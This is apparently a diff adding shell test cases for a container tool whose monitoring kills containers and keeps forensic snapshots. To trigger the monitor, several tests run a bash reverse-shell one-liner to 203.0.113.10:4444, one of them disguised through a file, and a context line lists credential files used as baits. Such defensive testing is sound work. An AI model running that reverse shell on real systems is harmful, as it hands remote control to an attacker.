@@ -146,3 +146,97 @@ BAITS="/root/.aws/credentials /root/.pypirc /root/.ssh/id_ed25519_deploy /root/.
 	within 10 not_running c7
 	gone c7
 }
+
+attack() { # NAME
+	inside "$1" bash -c 'bash -i >& /dev/tcp/203.0.113.10/4444 0>&1' 3>&- >/dev/null 2>&1 || true
+	within 10 not_running "$1"
+}
+
+cleaned() { # NAME: no supervisor of it is left
+	coi container list --format json | jq -e --arg n "$1" '.[] | select(.name == $n).status == "Stopped"'
+}
+
+@test "forensics_on_kill: the files of that moment are kept, three times at most, and that is told" {
+	local i names
+	settings 'forensics_on_kill = true'
+	launch f1
+	for i in 1 2 3 4; do
+		inside f1 bash -c 'echo loot >/root/loot'
+		attack f1
+		within 10 cleaned f1
+		coi snapshot list -c f1 --format json | grep -q forensics-
+		[ "$i" = 4 ] || coi container start f1
+	done
+	names=$(coi snapshot list -c f1 --format json | jq -r '.. | .name? // empty' | grep -c '^forensics-')
+	[ "$names" = 3 ]
+	coi logs f1 | grep "its files as snapshot 'forensics-"
+	coi snapshot list -c f1 --format json | grep -q 'when monitoring killed it: Reverse shell'
+	has "$A/f1.jsonl" '.type == "snapshot.create" and (.snapshot | startswith("forensics-"))'
+	# What a later start does is not in them.
+	names=$(coi snapshot list -c f1 --format json | jq -r '.. | .name? // empty' | grep '^forensics-' | tail -n 1)
+	coi container start f1
+	inside f1 rm /root/loot
+	coi container stop --force f1
+	coi snapshot restore -c f1 --force "$names"
+	coi container start f1
+	[ "$(inside f1 cat /root/loot)" = loot ]
+	gone f1
+}
+
+@test "forensics_on_kill: one that would have gone is kept, and nobody goes on in it" {
+	settings 'forensics_on_kill = true'
+	local name i
+	name=$(container_name)
+	coi run -- bash -c 'echo loot >/tmp/loot; echo "bash -i >& /dev/tcp/203.0.113.10/4444 0>&1" >/tmp/x; x=$(cat /tmp/x); bash -c "$x"' 3>&- >"$T/out" 2>&1 || true
+	within 10 cleaned "$name"
+	coi snapshot list -c "$name" --format json | grep -q forensics-
+	coi diff "$name" | grep -q /tmp/loot
+	# The next one of the workspace is another one.
+	[ "$(coi run -- hostname 2>/dev/null)" != "$name" ]
+	# No more than three of them.
+	for i in 1 2 3; do
+		coi run -- bash -c 'bash -i >& /dev/tcp/203.0.113.10/4444 0>&1' 3>&- >/dev/null 2>&1 || true
+	done
+	three() { [ "$(coi container list --format json | jq '[.[] | select(.status == "Stopped")] | length')" = 3 ]; }
+	within 10 three
+	! coi container exists "$name"
+	coi clean --force
+	[ "$(coi container list --format json | jq 'length')" = 0 ]
+}
+
+@test "one that monitoring killed: every command that misses it says so" {
+	settings
+	local name
+	name=$(container_name)
+	coi run -- bash -c 'bash -i >& /dev/tcp/203.0.113.10/4444 0>&1' 3>&- >"$T/out" 2>&1 || true
+	grep -q "Warning: container .$name.: monitoring killed it at 20.*: Reverse shell" "$T/out"
+	missing() { ! coi container exists "$name"; }
+	within 10 missing
+	for command in "attach $name" "unfreeze $name" "container exec $name -- true" "tmux capture $name"; do
+		# shellcheck disable=SC2086
+		run ! --separate-stderr coi $command
+		echo "$command: $stderr"
+		grep -q "monitoring killed it at 20.*: Reverse shell" <<<"$stderr"
+		grep -q "coi audit $name --level high" <<<"$stderr"
+	done
+	run -0 coi list
+	grep -q "$name is not there any more: monitoring killed it at" <<<"$output"
+	run -0 coi attach
+	grep -q "$name: monitoring killed it at" <<<"$output"
+	run -0 coi audit "$name" --level critical --format text
+	grep -q 'Reverse shell.*\[killed\]' <<<"$output"
+	# A kept one says it where it is shown; a start is the end of that.
+	launch coi-s1
+	attack coi-s1
+	within 10 cleaned coi-s1
+	coi list --format json | jq -e '.active_containers[] | select(.name == "coi-s1").killed | test("Reverse shell")'
+	run ! --separate-stderr coi attach coi-s1
+	grep -q "monitoring killed it" <<<"$stderr"
+	run ! --separate-stderr coi unfreeze coi-s1
+	grep -q "not frozen: monitoring killed it" <<<"$stderr"
+	coi container start coi-s1
+	coi list | (! grep "Ended:")
+	gone coi-s1
+	run ! --separate-stderr coi attach coi-s1
+	! grep -q monitoring <<<"$stderr"
+}
